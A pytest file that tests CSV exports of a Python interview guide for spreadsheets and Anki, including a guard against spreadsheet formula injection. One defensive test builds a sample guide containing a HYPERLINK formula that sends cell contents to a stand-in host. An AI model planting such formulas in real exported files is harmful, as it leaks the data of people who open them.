"""The two CSV files, judged by real readers.

- Python's `csv` module reads the spreadsheet CSV back; its cells are compared with what the
  Markdown says (read with a plain line scan, not with deckbook's parser).
- The Anki backend (the same Rust code Anki desktop and the mobile apps run) imports the
  `.anki.csv` into fresh collections: alone, re-imported after an edit, and together with the
  `.apkg`, in both orders.
- LibreOffice (headless) converts the spreadsheet CSV to xlsx and openpyxl reads the cells
  (marked `readers`: `make test-readers`).
"""

import csv
import re
import shutil
import subprocess

import pytest

from anki_support import (
    expected_cards,
    guid_for,
    import_csv,
    import_package,
    new_collection,
    outline,
)
from conftest import EPOCH, SEED, run_deckbook

SLUG = "complete-python-interview-guide"
DECK = "Complete Python Interview Guide"
NOTETYPE = "deckbook Q&A"
HEADER = ["id", "number", "topic", "section", "question", "answer", "tags", "source"]
RISKY = ("=", "+", "-", "@", "\t", "\r")
SEED_TEXT = SEED.read_text(encoding="utf-8")
TOPICS = outline(SEED_TEXT)
EDIT_FROM, EDIT_TO = "Thread-safe by nature", "Thread-safe by design (edited)"


def build(guide, out, *extra, epoch=EPOCH):
    out.mkdir(parents=True, exist_ok=True)
    run_deckbook("build", guide, "-o", out, "--format", "csv", *extra, epoch=epoch)
    return out / f"{SLUG}.csv", out / f"{SLUG}.anki.csv"


def read_rows(path, encoding="utf-8"):
    with open(path, newline="", encoding=encoding) as f:
        return list(csv.reader(f))


@pytest.fixture(scope="module")
def seed_csv(tmp_path_factory):
    return build(SEED, tmp_path_factory.mktemp("csv"))


@pytest.fixture(scope="module")
def edited_csv(tmp_path_factory):
    """The seed with one answer edited, built a day later: (.anki.csv, .apkg)."""
    folder = tmp_path_factory.mktemp("edited")
    guide = folder / SEED.name
    assert SEED_TEXT.count(EDIT_FROM) == 1
    guide.write_text(SEED_TEXT.replace(EDIT_FROM, EDIT_TO), encoding="utf-8")
    epoch = int(EPOCH) + 86400
    run_deckbook("build", guide, "-o", folder, "--format", "apkg,csv", epoch=epoch)
    apkg = folder / f"{SLUG}.apkg"
    assert apkg.exists() and apkg.stat().st_size > 0, f"deckbook wrote no {apkg.name}"
    return folder / f"{SLUG}.anki.csv", apkg


# --- the spreadsheet CSV, read by Python's csv module ----------------------------------------


def test_spreadsheet_has_one_row_per_topic_with_the_guides_text(seed_csv):
    sheet, _ = seed_csv
    raw = sheet.read_bytes()
    rows = read_rows(sheet)
    assert rows[0] == HEADER
    body = rows[1:]
    assert len(body) == expected_cards(SEED_TEXT, "topics") == 74
    assert all(len(r) == len(HEADER) for r in body)
    # RFC 4180: CRLF after every record; line breaks inside cells are the Markdown's LF.
    assert raw.endswith(b"\r\n") and raw.count(b"\r\n") == len(rows)
    assert not raw.startswith(b"\xef\xbb\xbf")
    ids = [r[0] for r in body]
    assert len(set(ids)) == len(ids)
    for row, topic in zip(body, TOPICS):
        number, line = topic["number"], topic["line"]
        assert row[1] == number
        assert row[2] == row[4] == topic["title"], row[:5]
        assert row[3] == ""
        assert row[6] == f"{SLUG} topic-{number}"
        assert row[7].endswith(f"{SEED.name}:{line}"), row[7]
    sixty_sevens = [r for r in body if r[1] == "67"]
    assert [r[4] for r in sixty_sevens][1] == "The `with` Statement and Context Management"
    for row in body:
        for cell in row:
            assert "â€" not in cell and "Ã" not in cell, cell[:200]


def test_answers_keep_code_lists_tables_and_sections_as_markdown(seed_csv):
    sheet, _ = seed_csv
    first, second = read_rows(sheet)[1:3]
    # The first ```python block of the guide, copied from the Markdown, is in the first answer.
    lines = SEED_TEXT.splitlines()
    start = lines.index("```python")
    end = lines.index("```", start + 1)
    fenced = "\n".join(lines[start : end + 1])
    assert fenced in first[5]
    assert first[5].startswith("### Immutable Data Types\n\n- **Definition**: Objects")
    assert "\n  - Thread-safe by nature\n" in first[5]
    assert "\n### Mutable Data Types\n" in first[5]
    assert second[5].startswith("| Aspect | List | Tuple |\n| --- | --- | --- |\n")
    assert "| Syntax | `[1, 2, 3]` | `(1, 2, 3)` |" in second[5]


def test_the_formula_guard_prefixes_exactly_the_risky_cells(tmp_path):
    guarded, _ = build(SEED, tmp_path / "guarded", "--cards", "sections")
    plain, _ = build(SEED, tmp_path / "plain", "--cards", "sections", "--no-formula-guard")
    g_rows, p_rows = read_rows(guarded), read_rows(plain)
    assert len(g_rows) == len(p_rows) == expected_cards(SEED_TEXT, "sections") + 1
    prefixed = 0
    for g_row, p_row in zip(g_rows, p_rows):
        for g, p in zip(g_row, p_row):
            if p.startswith(RISKY):
                assert g == "'" + p
                prefixed += 1
            else:
                assert g == p
            assert not g.startswith(RISKY)
    # Many section answers start with a list ("- ..."); without the guard they stay as written.
    assert prefixed >= 20
    assert any(row[5].startswith("- ") for row in p_rows[1:])


def test_csv_bom_adds_only_the_byte_order_mark(tmp_path, seed_csv):
    sheet, _ = seed_csv
    bom, anki = build(SEED, tmp_path, "--csv-bom")
    data = bom.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,number,")
    assert data[3:] == sheet.read_bytes()
    assert read_rows(bom, encoding="utf-8-sig") == read_rows(sheet)
    # The Anki file never gets one: Anki would not see its first header line.
    assert anki.read_bytes().startswith(b"#separator:Comma\r\n")


# --- the Anki CSV, imported by the Anki backend ----------------------------------------------


def notes_by_guid(col):
    return {col.get_note(nid).guid: col.get_note(nid) for nid in col.find_notes("")}


def expected_guids():
    """The GUIDs genanki's rule gives the topic ids (title slugs, `-2` for a repeat)."""
    from anki_support import slugify

    seen, guids = {}, []
    for topic in TOPICS:
        base = slugify(topic["title"])
        seen[base] = seen.get(base, 0) + 1
        topic_id = base if seen[base] == 1 else f"{base}-{seen[base]}"
        guids.append(guid_for(SLUG, topic_id))
    return guids


def test_anki_csv_headers(seed_csv):
    _, anki = seed_csv
    head = anki.read_bytes().split(b"\r\n")[:7]
    assert head == [
        b"#separator:Comma",
        b"#html:true",
        f"#notetype:{NOTETYPE}".encode(),
        f"#deck:{DECK}".encode(),
        b"#guid column:1",
        b"#tags column:7",
        b"#deck column:8",
    ]


def test_anki_csv_imports_into_a_fresh_collection(seed_csv, tmp_path):
    _, anki = seed_csv
    col = new_collection(tmp_path)
    try:
        log = import_csv(col, anki)
        assert log["new"] == log["found"] == 74
        assert col.note_count() == col.card_count() == 74
        notes = notes_by_guid(col)
        assert sorted(notes) == sorted(expected_guids())
        # Without the package's note type, Anki fills its current one (Basic) from the first
        # columns: Question → Front, Answer → Back.
        first = notes[guid_for(SLUG, "mutable-and-immutable-data-types")]
        assert first.note_type()["name"] == "Basic"
        assert first["Front"] == "Mutable and Immutable Data Types"
        assert re.search(r"<h3[^>]*>Immutable Data Types</h3>", first["Back"])
        assert "<pre" in first["Back"]
        assert "list1.append(4)" in re.sub(r"<[^>]+>", "", first["Back"])
        assert first.tags == [SLUG, "topic-1"]
        assert col.decks.name(col.get_card(first.card_ids()[0]).did) == DECK
        assert all(NOTETYPE != m["name"] for m in col.models.all())
    finally:
        col.close()


def test_anki_csv_reimported_after_an_edit_updates_in_place(seed_csv, edited_csv, tmp_path):
    _, anki = seed_csv
    edited, _ = edited_csv
    col = new_collection(tmp_path)
    try:
        import_csv(col, anki)
        before = {guid: (n.id, n.card_ids()) for guid, n in notes_by_guid(col).items()}
        log = import_csv(col, edited)
        assert (log["new"], log["updated"], log["duplicate"]) == (0, 1, 73)
        assert col.note_count() == 74
        after = notes_by_guid(col)
        assert {guid: (n.id, n.card_ids()) for guid, n in after.items()} == before
        changed = after[guid_for(SLUG, "mutable-and-immutable-data-types")]
        assert EDIT_TO in changed["Back"] and EDIT_FROM not in changed["Back"]
    finally:
        col.close()


def test_apkg_then_anki_csv_updates_the_packages_notes(seed_outputs, seed_csv, edited_csv,
                                                       tmp_path):
    apkg = seed_outputs / f"{SLUG}.apkg"
    assert apkg.exists() and apkg.stat().st_size > 0, f"deckbook wrote no {apkg.name}"
    _, anki = seed_csv
    edited, _ = edited_csv
    col = new_collection(tmp_path)
    try:
        assert import_package(col, apkg)["new"] == 74
        notetypes = sorted(m["name"] for m in col.models.all())
        before = {guid: (n.id, n.card_ids()) for guid, n in notes_by_guid(col).items()}
        # Same build: the CSV's fields and tags equal the package's, so nothing changes.
        log = import_csv(col, anki)
        assert (log["new"], log["updated"], log["duplicate"]) == (0, 0, 74)
        # The edited build updates the very notes the package made, in their note type.
        log = import_csv(col, edited)
        assert (log["new"], log["updated"], log["duplicate"]) == (0, 1, 73)
        assert sorted(m["name"] for m in col.models.all()) == notetypes
        after = notes_by_guid(col)
        assert {guid: (n.id, n.card_ids()) for guid, n in after.items()} == before
        changed = after[guid_for(SLUG, "mutable-and-immutable-data-types")]
        assert changed.note_type()["name"] == NOTETYPE
        assert list(changed.keys()) == ["Question", "Answer", "Topic", "Section", "Source"]
        assert EDIT_TO in changed["Answer"]
        assert changed["Source"] == f"{SEED.name}:3"
    finally:
        col.close()


def test_anki_csv_files_each_note_in_its_groups_sub_deck(tmp_path):
    """After the package, the grouped fixture's `.anki.csv` updates the same notes and
    leaves each in its group's sub-deck (the deck column names it)."""
    guide = SEED.parent.parent / "tests" / "fixtures" / "guides" / "grouped.md"
    out = tmp_path / "out"
    out.mkdir()
    run_deckbook("build", guide, "-o", out, "--format", "apkg,csv")
    col = new_collection(tmp_path / "col")
    try:
        import_package(col, out / "python-notes.apkg")
        log = import_csv(col, out / "python-notes.anki.csv")
        assert log["new"] == 0 and col.note_count() == 6, log
        assert len(col.find_cards('"deck:Python Notes::Quick checks"')) == 2
        assert len(col.find_cards('"deck:Python Notes::Strings"')) == 2
    finally:
        col.close()


def test_anki_csv_then_apkg_leaves_the_basic_notes(seed_outputs, seed_csv, tmp_path):
    """The other order: notes the CSV made as Basic keep their GUIDs, so the package's notes
    (another note type) conflict with them and are not imported. Import the .apkg first."""
    apkg = seed_outputs / f"{SLUG}.apkg"
    assert apkg.exists() and apkg.stat().st_size > 0, f"deckbook wrote no {apkg.name}"
    _, anki = seed_csv
    col = new_collection(tmp_path)
    try:
        import_csv(col, anki)
        log = import_package(col, apkg)
        assert (log["new"], log["conflicting"]) == (0, 74)
        assert col.note_count() == 74
        assert {n.note_type()["name"] for n in notes_by_guid(col).values()} == {"Basic"}
    finally:
        col.close()


# --- LibreOffice → xlsx → openpyxl -----------------------------------------------------------


def to_xlsx(csv_path, out_dir, profile):
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.fail("LibreOffice is missing: `make test-readers` installs it "
                    "(apt-get install libreoffice-calc-nogui)")
    # Comma, double quote, UTF-8 (76), from line 1.
    proc = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{profile}", "--headless",
         "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(out_dir),
         str(csv_path)],
        capture_output=True, text=True, timeout=300,
    )
    xlsx = out_dir / (csv_path.stem + ".xlsx")
    assert proc.returncode == 0 and xlsx.exists(), proc.stdout + proc.stderr
    return xlsx


def sheet_cells(xlsx):
    import openpyxl

    sheet = openpyxl.load_workbook(xlsx).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


@pytest.mark.readers
def test_libreoffice_reads_every_cell_as_text(seed_csv, tmp_path):
    sheet, _ = seed_csv
    xlsx = to_xlsx(sheet, tmp_path, tmp_path / "profile")
    cells = sheet_cells(xlsx)
    expected = read_rows(sheet)
    assert len(cells) == 75 and len(cells) - 1 == 74
    for row, want in zip(cells, expected):
        got = ["" if c.value is None else str(c.value) for c in row]
        assert got == want
        assert all(c.data_type != "f" for c in row)
    assert cells[1][4].value == "Mutable and Immutable Data Types"
    assert "```python\n# Immutable example" in cells[1][5].value


@pytest.mark.readers
def test_libreoffice_evaluates_formulas_only_without_the_guard(tmp_path):
    guide = tmp_path / "formulas.md"
    guide.write_text(
        "# Formulas\n\n## 1. One\n\n=1+2\n\n## 2. Two\n\n"
        '=HYPERLINK("http://x.example/?"&A1,"click")\n\n## 3. Three\n\n- a list\n',
        encoding="utf-8",
    )
    formulas = {}
    for name, extra in (("guarded", ()), ("plain", ("--no-formula-guard",))):
        out = tmp_path / name
        out.mkdir()
        run_deckbook("build", guide, "-o", out, "--format", "csv", *extra)
        xlsx = to_xlsx(out / "formulas.csv", out, tmp_path / "profile")
        formulas[name] = [c.value for row in sheet_cells(xlsx) for c in row
                          if c.data_type == "f"]
    assert formulas["guarded"] == []
    assert "=1+2" in formulas["plain"]
    assert any(str(v).startswith("=HYPERLINK(") for v in formulas["plain"])
